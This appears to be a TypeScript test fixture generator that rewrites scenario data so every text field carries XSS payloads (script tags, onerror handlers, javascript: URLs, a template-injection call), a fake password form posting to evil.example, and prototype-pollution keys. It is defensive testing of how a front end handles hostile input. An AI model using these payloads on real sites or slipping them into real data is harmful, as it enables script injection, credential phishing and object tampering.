/**
 * The same body as an attacker would write it: markup and script URLs in every text, and keys that reach for the
 * prototype. Flags and numbers stay, so that what a scenario shows is still shown, with these texts in it.
 */
const URL_FIELD = /(^|_)(url|link|router|apk|image)$|^img|_img$|router$/;
const MARKUP =
  '<img src=x onerror="alert(1)"><svg onload=alert(1)></svg><script>alert(1)</script>' +
  '<form action="https://evil.example"><input type="password" name="p"></form>' +
  '<a href="javascript:alert(1)" style="position:fixed;inset:0">text</a>{{constructor.constructor("alert(1)")()}}';
const SCRIPT_URL = 'javascript:alert(document.domain)//';

/** This text is a flag: any value sends the visitor away, and there would be nothing left to look at. */
const KEPT = new Set(['limit_country']);

/** JSON.stringify writes an own `__proto__`; plain assignment would set the prototype of our object instead. */
const define = (target: object, key: string, value: unknown): void => {
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
};

const poison = () => ({ polluted: 'yes', is_uk_limit: 1, is_show: 1, enable: 1, disabled: 1, url: SCRIPT_URL });

export const hostile = (value: unknown, name = ''): unknown => {
  if (typeof value === 'string') return KEPT.has(name) ? value : URL_FIELD.test(name) ? SCRIPT_URL : MARKUP;
  if (Array.isArray(value)) {
    // Lists of codes keep their entries; what counts is that the foreign one changes nothing.
    return value.every((entry) => typeof entry === 'string')
      ? [...value, MARKUP, '__proto__', 'constructor']
      : value.map((entry) => hostile(entry));
  }
  if (value === null || typeof value !== 'object') return value;
  const copy = {};
  for (const [key, entry] of Object.entries(value)) define(copy, key, hostile(entry, key));
  define(copy, '__proto__', poison());
  define(copy, 'constructor', { prototype: poison() });
  define(copy, 'prototype', poison());
  return copy;
};
